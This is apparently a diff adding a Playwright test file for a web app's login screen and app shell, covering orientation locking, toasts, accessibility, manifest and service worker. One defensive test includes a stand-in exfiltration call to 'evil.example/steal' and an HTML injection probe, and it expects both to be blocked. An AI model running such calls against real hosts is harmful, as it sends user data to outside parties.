@@ -1,0 +1,326 @@
+import type { Page } from '@playwright/test'
+import { expect, test } from './fixtures.ts'
+import { stopClock } from './shell-page.ts'
+
+test.use({ deviceScaleFactor: 1 })
+
+const login = (page: Page) => page.getByRole('button', { name: 'Log in' })
+
+test.describe('portrait', () => {
+  const locks = (page: Page) =>
+    page.evaluate(() => (window as unknown as { locks: string[] }).locks)
+
+  async function recordLocks(page: Page, result: 'granted' | 'refused'): Promise<void> {
+    await page.addInitScript((outcome) => {
+      const asked: string[] = []
+      Object.assign(window, { locks: asked })
+      Object.assign(window.screen.orientation, {
+        lock: (to: string) => {
+          asked.push(to)
+          return outcome === 'granted' ? Promise.resolve() : Promise.reject(new Error('refused'))
+        },
+      })
+    }, result)
+  }
+
+  test('is locked at the start and again on each of the three signals', async ({ page }) => {
+    await recordLocks(page, 'granted')
+    await page.goto('/auth/login')
+    await expect(login(page)).toBeVisible()
+    expect(await locks(page)).toEqual(['portrait-primary'])
+
+    await page.evaluate(() => {
+      Object.defineProperty(window.screen.orientation, 'type', { value: 'landscape-primary' })
+      window.screen.orientation.dispatchEvent(new Event('change'))
+    })
+    expect(await locks(page)).toHaveLength(2)
+    for (const degrees of [90, -90]) {
+      await page.evaluate((value) => {
+        Object.defineProperty(window, 'orientation', { value, configurable: true })
+        window.dispatchEvent(new Event('orientationchange'))
+      }, degrees)
+    }
+    expect(await locks(page)).toHaveLength(4)
+    await page.setViewportSize({ width: 900, height: 600 })
+    await expect.poll(async () => (await locks(page)).length).toBeGreaterThan(4)
+    expect(new Set(await locks(page))).toEqual(new Set(['portrait-primary']))
+  })
+
+  test('refused, the app goes on', async ({ page }) => {
+    await recordLocks(page, 'refused')
+    await page.goto('/auth/login')
+    await expect(login(page)).toBeVisible()
+    expect(await locks(page)).toEqual(['portrait-primary'])
+  })
+
+  test('a phone on its side is asked to be turned, only while it is low and wide', async ({
+    page,
+    shot,
+    expectAccessible,
+  }) => {
+    await page.goto('/auth/login')
+    const overlay = page.getByRole('dialog', { name: 'Please rotate to portrait mode' })
+    for (const [width, height, isShown] of [
+      [800, 400, true],
+      [400, 800, false],
+      [800, 499, true],
+      [800, 500, false],
+      [400, 450, false],
+    ] as const) {
+      await page.setViewportSize({ width, height })
+      await expect(overlay, `${width}x${height}`).toHaveCount(isShown ? 1 : 0)
+    }
+    await page.setViewportSize({ width: 800, height: 400 })
+    await expect(page.getByText('For a better experience, please use portrait mode')).toBeVisible()
+    await shot('rotate')
+    await expectAccessible()
+  })
+
+  test.describe('on a desktop', () => {
+    test.use({ hasTouch: false, isMobile: false, viewport: { width: 800, height: 400 } })
+
+    test('nobody is asked to turn anything', async ({ page }) => {
+      await page.goto('/auth/login')
+      await expect(login(page)).toBeVisible()
+      await expect(page.getByRole('dialog')).toHaveCount(0)
+    })
+  })
+})
+
+test.describe('backdrop', () => {
+  test.use({ viewport: { width: 1280, height: 800 }, hasTouch: false, isMobile: false })
+
+  test('five blurred lights drift for 20, 30 and 40 s in a column of 430 px, unless motion is reduced', async ({
+    page,
+  }) => {
+    await page.emulateMedia({ reducedMotion: 'no-preference' })
+    await page.goto('/auth/login')
+    const lights = page.locator('[aria-hidden] > i')
+    const styles = () =>
+      lights.evaluateAll((found) =>
+        found.map((light) => {
+          const { filter, animationName, animationDuration } = getComputedStyle(light)
+          return { filter, animationName, animationDuration }
+        }),
+      )
+    await expect(lights).toHaveCount(5)
+
+    const drifting = await styles()
+    expect(drifting.every(({ filter }) => filter.startsWith('blur('))).toBe(true)
+    expect(new Set(drifting.map(({ animationDuration }) => animationDuration))).toEqual(
+      new Set(['20s', '30s', '40s']),
+    )
+    const box = await lights.first().locator('..').boundingBox()
+    expect(box?.width).toBeLessThanOrEqual(430)
+
+    await page.emulateMedia({ reducedMotion: 'reduce' })
+    expect((await styles()).map(({ animationName }) => animationName)).toEqual(
+      Array.from({ length: 5 }, () => 'none'),
+    )
+  })
+})
+
+test('one toast at a time, 343 px wide, for 3000 ms, and a new one takes the place of the last', async ({
+  page,
+  allowConsoleErrors,
+}) => {
+  allowConsoleErrors(/status of 500/)
+  await stopClock(page)
+  const answers = ['First refusal', 'Second refusal']
+  await page.route('**/v1/public/auth/login', (route) =>
+    route.fulfill({
+      status: 500,
+      json: { code: 9999, success: false, msg: answers.shift(), data: null },
+    }),
+  )
+  await page.goto('/auth/login')
+  await page.getByLabel('Email').fill('mina@harbor.example')
+  await page.getByLabel('Password', { exact: true }).fill('Winter-Sun7')
+  const toast = page.getByRole('status').filter({ hasText: 'refusal' })
+
+  await login(page).click()
+  await expect(toast).toHaveText('First refusal')
+  const box = await toast.locator('> *').boundingBox()
+  expect(box?.width).toBe(343)
+  await page.clock.runFor(2000)
+  await login(page).click()
+  await expect(toast).toHaveText('Second refusal')
+  await expect(toast.locator('> *')).toHaveCount(1)
+
+  await page.clock.runFor(2999)
+  await expect(toast).toHaveCount(1)
+  await page.clock.runFor(1)
+  await expect(toast).toHaveCount(0)
+})
+
+test('a spinner stands while it is not known who is there', async ({
+  page,
+  context,
+  memberState,
+}) => {
+  await context.setStorageState(memberState)
+  let answer = () => {}
+  const held = new Promise<void>((resolve) => {
+    answer = resolve
+  })
+  await page.route('**/v1/private/users/me', async (route) => {
+    await held
+    await route.continue()
+  })
+
+  await page.goto('/home')
+  await expect(page.getByRole('status', { name: 'Loading' })).toBeVisible()
+  await expect(page.getByRole('navigation')).toHaveCount(0)
+  answer()
+
+  await expect(page).toHaveURL('/pin/unlock')
+  await expect(page.getByRole('status', { name: 'Loading' })).toHaveCount(0)
+})
+
+test('a link loads its screen when it is about to be used, not before', async ({ page }) => {
+  const scripts: string[] = []
+  page.on('request', (request) => {
+    if (request.resourceType() === 'script') scripts.push(request.url())
+  })
+  await page.goto('/auth/login')
+  await page.waitForLoadState('networkidle')
+  const isLoaded = () =>
+    scripts.some((url) => /\/(-sign-up-email|signup|email)[\w-]*\.js/.test(url))
+  expect(isLoaded()).toBe(false)
+
+  await page.getByRole('link', { name: 'Create account' }).dispatchEvent('touchstart')
+
+  await expect.poll(isLoaded).toBe(true)
+  await expect(page).toHaveURL('/auth/login')
+})
+
+test('the first Tab offers to skip to the content, and a new screen takes the focus to its title', async ({
+  page,
+}) => {
+  await page.goto('/auth/login')
+  await expect(login(page)).toBeVisible()
+  await page.locator('body').press('Tab')
+  const skip = page.getByRole('button', { name: 'Skip to content' })
+  await expect(skip).toBeFocused()
+  await page.keyboard.press('Enter')
+  await expect(page.locator('main')).toBeFocused()
+
+  await page.getByRole('link', { name: 'Create account' }).click()
+
+  await expect(page).toHaveURL(/signup/)
+  await expect(page.getByRole('heading', { level: 1 })).toBeFocused()
+})
+
+test('on a connection without cryptography a plain screen says why', async ({ page, shot }) => {
+  await page.addInitScript(() => Object.defineProperty(crypto, 'subtle', { value: undefined }))
+  await page.goto('/auth/login')
+
+  await expect(page.getByRole('heading', { name: 'This connection is not secure' })).toBeVisible()
+  await expect(page.getByRole('link', { name: 'Open securely' })).toHaveAttribute('href', /^https:/)
+  await expect(page.getByRole('textbox')).toHaveCount(0)
+  await shot('insecure')
+})
+
+test('a script in the page can neither write markup, evaluate text nor call a foreign host', async ({
+  page,
+  allowConsoleErrors,
+}) => {
+  allowConsoleErrors(/./)
+  await page.goto('/auth/login')
+  await expect(login(page)).toBeVisible()
+
+  const outcomes = await page.evaluate(async () => {
+    // What a test evaluates itself may evaluate text; what comes after a timer may not.
+    await new Promise((resolve) => setTimeout(resolve))
+    const attempt = async (action: () => unknown) => {
+      try {
+        await action()
+        return 'done'
+      } catch (error) {
+        return error instanceof Error ? error.name : 'refused'
+      }
+    }
+    return {
+      markup: await attempt(() => {
+        document.createElement('div').innerHTML = '<img src=x>'
+      }),
+      script: await attempt(() => {
+        document.createElement('script').src = '/sw.js'
+      }),
+      worker: await attempt(() => new Worker('/sw.js')),
+      // oxlint-disable-next-line no-implied-eval, typescript/no-implied-eval -- what must be refused
+      timer: await attempt(() => new Function('return 1')),
+      policy: await attempt(() =>
+        (
+          window as unknown as {
+            trustedTypes: { createPolicy: (name: string, rules: object) => void }
+          }
+        ).trustedTypes.createPolicy('mine', {}),
+      ),
+      foreign: await attempt(() => fetch('https://evil.example/steal')),
+    }
+  })
+
+  expect(outcomes).toEqual({
+    markup: 'TypeError',
+    script: 'TypeError',
+    worker: 'TypeError',
+    timer: 'EvalError',
+    policy: 'TypeError',
+    foreign: 'TypeError',
+  })
+})
+
+test.describe('with its worker', () => {
+  test.use({ serviceWorkers: 'allow' })
+
+  test('is an installable app: manifest in two languages, icons, a worker at /sw.js', async ({
+    page,
+    request,
+  }) => {
+    await page.goto('/auth/login')
+    expect(await page.title()).toContain('Solstice')
+    const href = await page.locator('link[rel=manifest]').getAttribute('href')
+    for (const file of [href ?? '', '/manifest.ko.webmanifest']) {
+      const reply = await request.get(file)
+      expect(reply.headers()['content-type']).toContain('application/manifest+json')
+      const manifest = (await reply.json()) as {
+        name: string
+        icons: { src: string }[]
+        shortcuts: { icons: { src: string }[] }[]
+      }
+      expect(manifest.name).toBe('Solstice')
+      const pictures = [...manifest.icons, ...manifest.shortcuts.flatMap(({ icons }) => icons)]
+      for (const { src } of pictures) expect((await request.get(src)).status(), src).toBe(200)
+    }
+
+    const registered = await page.evaluate(async () => {
+      const registration = await navigator.serviceWorker.ready
+      return { url: registration.active?.scriptURL, scope: registration.scope }
+    })
+    expect(new URL(registered.url ?? '').pathname).toBe('/sw.js')
+    expect(new URL(registered.scope).pathname).toBe('/')
+    const worker = await request.get('/sw.js')
+    expect(worker.headers()['content-type']).toContain('javascript')
+  })
+
+  test('a worker that cannot be had is logged, and the app goes on', async ({
+    page,
+    context,
+    allowConsoleErrors,
+  }) => {
+    allowConsoleErrors(/service worker could not be registered|bad HTTP response code/)
+    const faults: string[] = []
+    page.on('console', (message) => {
+      if (message.type() === 'error') faults.push(message.text())
+    })
+    await context.route('**/sw.js', (route) => route.fulfill({ status: 404, body: '' }))
+
+    await page.goto('/auth/login')
+
+    await expect(login(page)).toBeVisible()
+    await expect
+      .poll(() => faults.filter((fault) => /could not be registered/.test(fault)))
+      .toHaveLength(1)
+  })
+})
